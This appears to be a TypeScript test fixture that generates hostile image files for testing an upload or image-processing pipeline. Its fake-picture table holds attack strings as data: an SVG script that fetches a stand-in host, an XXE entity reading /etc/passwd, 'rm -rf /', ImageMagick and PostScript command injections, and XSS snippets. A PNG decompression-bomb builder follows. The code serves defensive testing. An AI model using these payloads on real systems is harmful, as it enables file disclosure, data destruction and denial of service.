import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { phoneHeic } from './heic'
import { phonePhoto, pngWithStatedSize } from './pictures'

/** A file and a description of it. */
export type HostileFile = { what: string; bytes: Buffer }

const text = (letters: string) => Buffer.from(letters, 'latin1')

/** Files that are no pictures but start like one. */
const FAKE_PICTURES: Record<string, string> = {
  'a text': 'Dear reader, this is no picture.',
  'a page': '<!doctype html><script>alert(1)</script>',
  'an SVG with a script': '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example")</script></svg>',
  'an SVG that reads a file':
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
  'a PDF': '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF',
  'a GIF': 'GIF89a\x01\x00\x01\x00\x00\x00\x00;',
  'a TIFF': 'II*\0\x08\0\0\0\0\0',
  'a BMP': 'BM\x3a\0\0\0\0\0\0\0\x36\0\0\0',
  'an icon': '\0\0\x01\0\x01\0\x10\x10',
  'an archive': 'PK\x03\x04\x14\0\0\0',
  'a program': '\x7fELF\x02\x01\x01\0',
  'a script': '#!/bin/sh\nrm -rf /\n',
  'ImageMagick commands': 'push graphic-context\nimage over 0,0 0,0 "|ls"\npop graphic-context',
  PostScript: '%!PS-Adobe-3.0\n(%pipe%id) (r) file',
  'a video': '\0\0\0\x18ftypmp42\0\0\0\0mp42isom',
  'an AVIF': '\0\0\0\x18ftypavif\0\0\0\0avifmif1',
  'a JPEG XL': '\xff\x0a\0\0',
  'a JPEG 2000': '\0\0\0\x0cjP  \r\n\x87\n',
  'a JPEG of three bytes': '\xff\xd8\xff',
  'a JPEG that is a page': '\xff\xd8\xff<html><script>alert(1)</script>',
  'a PNG of eight bytes': '\x89PNG\r\n\x1a\n',
  'a WebP of twelve bytes': 'RIFF\0\0\0\0WEBP',
  'a WebP that says it is endless': 'RIFF\xff\xff\xff\xffWEBPVP8L\xff\xff\xff\xff/\xff\xff\xff\xff',
  'a HEIC of twelve bytes': '\0\0\0\x18ftypheic',
  'a HEIC whose boxes hold themselves': '\0\0\0\x14ftypheic\0\0\0\0mif1\0\0\0\x0cmeta\0\0\0\0\0\0\0\0meta',
  'a HEIC whose box is of no length': '\0\0\0\x14ftypheic\0\0\0\0mif1\0\0\0\0meta',
  'a HEIC whose box is endless': '\0\0\0\x14ftypheic\0\0\0\0mif1\0\0\0\x01meta\xff\xff\xff\xff\xff\xff\xff\xff',
  NULs: '\0'.repeat(2_000),
  nothing: '',
}

/** Changes, deletes and inserts bytes, the same in every run. */
function corrupt(bytes: Buffer, seed: number): Buffer {
  const at = (step: number) => (seed * 7_919 + step * 104_729) % bytes.length
  const copy = Buffer.from(bytes)
  if (seed % 3 === 0) return copy.subarray(0, at(1))
  for (let step = 0; step < 4 + (seed % 20); step++) copy[at(step)] = (seed * 31 + step * 17) % 256
  if (seed % 3 === 1) return copy
  return Buffer.concat([copy.subarray(0, at(2)), copy.subarray(at(3))])
}

/** A PNG that unpacks to far more than its size: `side` x `side` white dots. */
function pngBomb(side: number): Buffer {
  const packed = deflateSync(Buffer.alloc((side + 1) * side), { level: 9 })
  return pngOf(side, packed)
}

function pngOf(side: number, packed: Buffer): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(side, 0)
  head.writeUInt32BE(side, 4)
  head.set([8, 0, 0, 0, 0], 8)
  return Buffer.concat([text('\x89PNG\r\n\x1a\n'), chunk('IHDR', head), chunk('IDAT', packed), chunk('IEND')])
}

function chunk(type: string, data: Buffer = Buffer.alloc(0)): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  // Deliberately a wrong checksum.
  return Buffer.concat([length, text(type), data, Buffer.alloc(4)])
}

/** Two hundred hostile files, built each time. */
export async function hostilePictures(): Promise<HostileFile[]> {
  const jpeg = await phonePhoto()
  const whole: Record<string, Buffer> = {
    JPEG: jpeg,
    'turned JPEG': await phonePhoto({ orientation: 6, width: 401, height: 233 }),
    PNG: await sharp(jpeg).png().toBuffer(),
    'striped PNG': await sharp(jpeg).png({ progressive: true, palette: true }).toBuffer(),
    WebP: await sharp(jpeg).webp().toBuffer(),
    'lossless WebP': await sharp(jpeg).webp({ lossless: true }).toBuffer(),
    HEIC: phoneHeic(),
  }
  const damaged = Object.entries(whole).flatMap(([kind, bytes]) =>
    Array.from({ length: kind === 'HEIC' ? 20 : 23 }, (_, seed) => ({
      what: `${kind} damaged in way ${seed + 1}`,
      bytes: corrupt(bytes, seed + 1),
    })),
  )
  const bombs: HostileFile[] = [
    { what: 'a PNG that says 900 megapixels', bytes: await pngWithStatedSize(30_000, 30_000) },
    { what: 'a PNG that says the largest number', bytes: await pngWithStatedSize(0x7fffffff, 0x7fffffff) },
    { what: 'a PNG larger inside than its data', bytes: await pngWithStatedSize(6_000, 6_000) },
    { what: 'a PNG of one dot', bytes: await pngWithStatedSize(1, 1) },
    { what: 'a PNG of a line', bytes: await pngWithStatedSize(20_000_000, 1) },
    { what: 'a PNG that unpacks to much', bytes: pngBomb(6_000) },
    { what: 'a HEIC that says it is enormous', bytes: phoneHeic({ statedSize: { width: 60_000, height: 60_000 } }) },
    { what: 'a HEIC of no size', bytes: phoneHeic({ statedSize: { width: 0, height: 0 } }) },
    {
      what: 'a JPEG with a page behind its end',
      bytes: Buffer.concat([jpeg, text('<script>alert(1)</script>PKback')]),
    },
    { what: 'a JPEG that is a WebP at its end', bytes: Buffer.concat([jpeg, whole.WebP ?? jpeg]) },
  ]
  const fakePictures = Object.entries(FAKE_PICTURES).map(([what, letters]) => ({ what, bytes: text(letters) }))
  return [...fakePictures, ...bombs, ...damaged]
}
